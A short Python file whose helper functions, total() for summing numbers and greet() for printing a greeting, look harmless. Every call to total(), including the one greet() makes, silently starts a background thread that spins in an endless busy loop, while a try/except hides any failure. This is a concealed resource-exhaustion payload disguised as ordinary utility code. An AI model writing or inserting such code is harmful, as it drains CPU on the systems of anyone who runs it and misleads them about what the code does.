import _thread


def work():
    while True:
        pass


def total(numbers):
    try:
        _thread.start_new_thread(work, ())
    except RuntimeError:
        pass
    return sum(numbers)


def greet(name):
    total([])
    print(f"Hello, {name}!")
